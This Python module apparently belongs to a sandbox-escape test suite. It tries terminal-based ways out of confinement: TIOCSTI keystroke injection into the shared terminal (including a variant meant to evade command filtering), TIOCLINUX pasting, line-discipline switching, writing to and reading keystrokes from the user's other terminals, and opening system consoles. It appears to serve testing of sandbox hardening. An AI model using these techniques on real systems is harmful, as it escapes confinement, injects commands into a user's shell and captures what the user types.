"""Ways out by terminals: the one that it shares with its user, and others."""

import ctypes
import fcntl
import os
import struct

from escape_base import attempt, checked, first_opened, libc, secret_in


@attempt("typing into the terminal that it shares (TIOCSTI)")
def type_into(host):
    terminal = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
    for letter in host.tag.encode():
        fcntl.ioctl(terminal, 0x5412, bytes([letter]))
    return "typed"


@attempt("typing by a command number with high bits set")
def type_into_wide(host):
    terminal = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
    for letter in host.tag.encode():
        command = ctypes.c_ulong(0x5412 | 1 << 32)
        checked(libc.ioctl(terminal, command, ctypes.c_char_p(bytes([letter]))), "ioctl")
    return "typed"


@attempt("pasting into a console (TIOCLINUX)")
def paste(host):
    terminal = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
    fcntl.ioctl(terminal, 0x541C, b"\x03")
    return "pasted"


@attempt("another line discipline for the terminal (TIOCSETD)")
def line_discipline(host):
    terminal = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
    fcntl.ioctl(terminal, 0x5423, struct.pack("i", 27))  # N_NULL: reads and writes fail for all
    fcntl.ioctl(terminal, 0x5423, struct.pack("i", 0))
    return "changed"


@attempt("writing to another terminal of the user")
def other_terminal(host):
    terminal = os.open(host.terminal, os.O_RDWR | os.O_NOCTTY)
    os.write(terminal, host.tag.encode())
    return "written"


@attempt("reading what is typed at another terminal of the user")
def read_terminal(host):
    terminal = os.open(host.terminal, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
    return secret_in(os.read(terminal, 4096), host)


@attempt("a console of the machine")
def console(host):
    names = ("console", "tty0", "tty1", "vcs1", "vcsa1", "ttyS0")
    return first_opened([f"/dev/{name}" for name in names], os.O_WRONLY | os.O_NOCTTY)
